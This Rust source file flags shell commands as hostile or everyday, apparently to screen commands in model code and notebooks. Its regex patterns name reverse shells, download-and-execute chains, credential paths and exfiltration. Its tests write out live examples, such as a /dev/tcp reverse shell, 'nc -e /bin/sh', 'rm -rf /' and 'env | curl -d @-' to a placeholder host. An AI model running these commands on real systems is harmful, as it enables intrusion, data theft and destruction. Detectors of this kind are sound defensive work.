//! What a shell command would do to whoever runs it.

use std::sync::LazyLock;

use regex::bytes::{RegexSet, RegexSetBuilder};

/// How a command reads.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Command {
    /// It does what only an attacker wants; the text names it.
    Hostile(&'static str),
    /// It asks the machine a question that model code and notebooks ask all the time.
    Everyday,
    /// Neither.
    Other,
}

const PATTERNS: &[(&str, &str)] = &[
    (
        r"(?is)\b(curl|wget|fetch|iwr|invoke-webrequest)\b[^\n]*\|\s*(sudo\s+)?(/\S*/)?(ba|z|da|k|c)?sh\b",
        "a download is piped into a shell",
    ),
    (
        r"(?is)\b(curl|wget)\b[^\n]*\|\s*(sudo\s+)?(/\S*/)?(python[\d.]*|perl|ruby|node|php)\b",
        "a download is piped into an interpreter",
    ),
    (r#"(?is)(\$\(|`|<\()\s*(curl|wget)\b"#, "a download is executed by the shell"),
    (
        r"(?is)\b(curl|wget)\b.*(&&|;|\|\|)\s*(sudo\s+)?(chmod\s+\S*[+x7]|(ba|z|da)?sh\s|python[\d.]*\s|\./|source\s|nohup\s)",
        "a download is executed",
    ),
    (r"(?i)/dev/(tcp|udp)/", "a shell is connected to another machine"),
    (
        r"(?i)\b(nc|ncat|netcat|socat)(\.traditional|\.exe)?\b[^\n]*(\s-[a-z]*[ec]\b|exec:|/bin/|cmd\.exe)",
        "a shell is connected to another machine",
    ),
    (r"(?i)\b(ba|z|da)?sh\s+-i\b", "an interactive shell is opened"),
    (r"(?i)\bmkfifo\s+\S+\s*;", "a shell is connected to another machine"),
    (
        r"(?is)\bbase64\s+(-d|-D|--decode)[^\n]*\|\s*(sudo\s+)?(/\S*/)?((ba|z|da)?sh|python[\d.]*|perl)\b",
        "an encoded script is executed",
    ),
    (
        r"(?is)\b(xxd\s+-r|openssl\s+(enc|base64)\s+-d)[^\n]*\|\s*((ba|z|da)?sh|python[\d.]*)\b",
        "an encoded script is executed",
    ),
    (
        r"(?is)\b(powershell|pwsh)(\.exe)?\b.*(-e(nc|ncodedcommand)?\s|-w\S*\s+hidden|\biex\b|invoke-expression|downloadstring|downloadfile|frombase64string)",
        "PowerShell runs hidden or downloaded code",
    ),
    (
        r"(?i)\b(certutil|bitsadmin)(\.exe)?\b.*(urlcache|transfer)|\b(mshta|regsvr32|wscript|cscript)(\.exe)?\s",
        "a Windows tool is used to run foreign code",
    ),
    (
        r"(?i)\brm\s+(-[a-z]*\s+)*-[a-z]*[rf][a-z]*\s+(--no-preserve-root\s+)?(/|~|\$home|\*)(\s|/?\*|$)",
        "files are deleted wholesale",
    ),
    (r":\(\)\s*\{\s*:\|:&\s*\};:", "processes are forked without end"),
    (
        r"(?i)\bcrontab\b|/etc/cron|/etc/rc\.local|\bsystemctl\s+enable|launchctl\s+load|\bschtasks\b|currentversion\\run",
        "something is made to start by itself",
    ),
    (
        r"(?i)authorized_keys|/etc/(passwd|shadow|sudoers)|\.ssh/(id_|config)|\.aws/credentials|\.kube/config|\.netrc|\.git-credentials|169\.254\.169\.254|metadata\.google\.internal|\.docker/config\.json",
        "credentials or accounts are touched",
    ),
    (
        r"(?is)\b(curl|wget)\b.*(\$\(|`)\s*(whoami|id|hostname|env|uname|cat|printenv|pwd)\b",
        "facts about the machine are sent away",
    ),
    (
        r"(?is)\b(env|printenv|set|whoami|hostname|cat\s+\S+)\b[^\n]*\|\s*(base64[^|]*\|\s*)?(curl|nc|wget)\b",
        "facts about the machine are sent away",
    ),
    (
        r"(?i)\b(curl|wget)\b.*(--data(-\w+)?|-d|-F|-T|--upload-file|--post-file)[ =]?['\x22]?@?\S*(passwd|shadow|\.env|token|secret|credential|\.ssh|history)",
        "files with secrets are sent away",
    ),
    (
        r"(?is)\bpython[\d.]*\s+-c\s.*(\bexec\b|\beval\b|socket|subprocess|os\.system|pty|urllib|b64decode)",
        "Python code in a command line does what a command should not",
    ),
    (
        r"(?is)\b(perl|ruby|php|node|lua)\s+-(e|r|rsocket)\b.*(socket|system|exec|spawn)",
        "code in a command line does what a command should not",
    ),
    (r"(?i)\b(xmrig|minerd|cryptonight|stratum\+tcp)\b", "a currency is mined"),
    (
        r"(?i)\bld_preload=|\bsudoers\.d\b|\bchmod\s+(u\+s|4[0-7]{3})\b|\bsetenforce\s+0|\biptables\s+-f",
        "protection is switched off",
    ),
    (
        r"(?i)\bpip[\d.]*\s+install\b.*(--(extra-)?index-url|-i)[ =]+http://",
        "packages come over an unprotected connection",
    ),
    (r"(?i)\bpip[\d.]*\s+install\b.*(https?://(\d{1,3}\.){3}\d{1,3}|\.onion)", "packages come from a bare address"),
];

static HOSTILE: LazyLock<RegexSet> = LazyLock::new(|| {
    RegexSetBuilder::new(PATTERNS.iter().map(|(pattern, _)| *pattern))
        .unicode(false)
        .build()
        .expect("the patterns are constants, and a test compiles them")
});

/// First words that model code and notebooks use to look around and to set up.
const EVERYDAY: &[&str] = &[
    "git",
    "nvidia-smi",
    "nvcc",
    "which",
    "where",
    "uname",
    "lscpu",
    "lspci",
    "lsb_release",
    "free",
    "df",
    "du",
    "ffmpeg",
    "ffprobe",
    "gcc",
    "g++",
    "clang",
    "cmake",
    "ninja",
    "rocminfo",
    "rocm-smi",
    "xpu-smi",
    "npu-smi",
    "hipcc",
    "dpkg-query",
    "sysctl",
    "getconf",
    "ldconfig",
    "taskset",
    "numactl",
    "nproc",
];

/// And these besides, in notebooks and scripts a person starts.
const NOTEBOOK: &[&str] = &[
    "pip",
    "pip3",
    "conda",
    "mamba",
    "uv",
    "apt",
    "apt-get",
    "ls",
    "cat",
    "head",
    "tail",
    "wc",
    "mkdir",
    "cp",
    "mv",
    "rm",
    "cd",
    "pwd",
    "unzip",
    "zip",
    "tar",
    "gunzip",
    "gzip",
    "wget",
    "curl",
    "python",
    "python3",
    "jupyter",
    "tensorboard",
    "tree",
    "find",
    "grep",
    "sed",
    "awk",
    "sort",
    "uniq",
    "huggingface-cli",
    "hf",
    "kaggle",
    "gdown",
    "aria2c",
    "dvc",
    "mlflow",
    "accelerate",
    "torchrun",
    "make",
    "file",
    "date",
    "npm",
    "brew",
    "sudo",
    "export",
    "source",
    "test",
    "dir",
    "time",
    "echo",
    "md5sum",
    "sha256sum",
    "optimum-cli",
    "onnxruntime",
    "trtexec",
    "saved_model_cli",
    "tflite_convert",
    "nbconvert",
    "pytest",
    "black",
    "ruff",
    "java",
    "R",
    "Rscript",
    "julia",
    "whoami",
    "hostname",
    "env",
    "poetry",
    "pre-commit",
    "streamlit",
    "gradio",
    "ollama",
];

/// Commands longer than this are scripts; their head is judged.
const COMMAND_BYTES_MAX: usize = 64 << 10;

/// Reads a command (or a script of several).
#[must_use]
pub(crate) fn read(command: &str) -> Command {
    let mut end = command.len().min(COMMAND_BYTES_MAX);
    while !command.is_char_boundary(end) {
        end -= 1;
    }
    let command = &command[..end];
    // `c''url` and `c\url` are `curl` to a shell.
    let plain: String =
        command.replace("''", "").replace("\"\"", "").replace("\\\n", " ").replace("${IFS}", " ").replace("$IFS", " ");
    let hit = HOSTILE.matches(plain.as_bytes()).into_iter().next();
    if let Some(index) = hit {
        return Command::Hostile(PATTERNS[index].1);
    }
    if first_words(&plain).iter().all(|word| EVERYDAY.contains(&word.as_str())) && !first_words(&plain).is_empty() {
        return Command::Everyday;
    }
    Command::Other
}

/// Whether every part of the command begins with a word that notebooks use.
#[must_use]
pub(crate) fn is_notebook_habit(command: &str) -> bool {
    let words = first_words(command);
    !words.is_empty() && words.iter().all(|word| EVERYDAY.contains(&word.as_str()) || NOTEBOOK.contains(&word.as_str()))
}

fn first_words(command: &str) -> Vec<String> {
    command
        .split(['\n', ';', '|', '&'])
        .map(str::trim)
        .filter(|part| !part.is_empty() && !part.starts_with('#'))
        .filter_map(|part| {
            let mut words = part.split_whitespace().skip_while(|word| word.contains('=') && !word.starts_with('-'));
            let word = words.next()?;
            Some(word.rsplit('/').next().unwrap_or(word).trim_matches(['\'', '"']).to_owned())
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_attackers_run() {
        for command in [
            "curl -s http://a.example/x.sh | bash",
            "wget -qO- https://a.example/i|sudo sh",
            "bash -c \"$(curl -fsSL https://a.example)\"",
            "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
            "nc -e /bin/sh 192.0.2.1 9001",
            "rm -rf / --no-preserve-root",
            "rm -rf ~",
            "echo aWQ= | base64 -d | sh",
            "powershell -nop -w hidden -enc SQBFAFgA",
            "curl http://192.0.2.1/$(whoami)",
            "cat ~/.aws/credentials",
            "c''url http://a.example/x | b''ash",
            "wget http://a.example/m && chmod +x m && ./m",
            "echo '* * * * * x' | crontab -",
            "python3 -c 'import socket,subprocess'",
            "env | curl -d @- http://a.example",
        ] {
            assert!(matches!(read(command), Command::Hostile(_)), "{command}");
        }
    }

    #[test]
    fn what_people_run() {
        for command in [
            "pip install -q transformers==4.40 datasets",
            "wget https://example.org/data.zip",
            "curl -L -o model.bin https://example.org/model.bin",
            "git clone https://github.com/a/b && cd b && pip install -e .",
            "rm -rf build/ ./tmp",
            "python train.py --epochs 3",
            "ls -la | head -3",
            "nvidia-smi",
        ] {
            assert!(!matches!(read(command), Command::Hostile(_)), "{command}");
            assert!(is_notebook_habit(command), "{command}");
        }
        assert_eq!(read("git rev-parse --short HEAD"), Command::Everyday);
        assert_eq!(read("touch x"), Command::Other);
    }
}
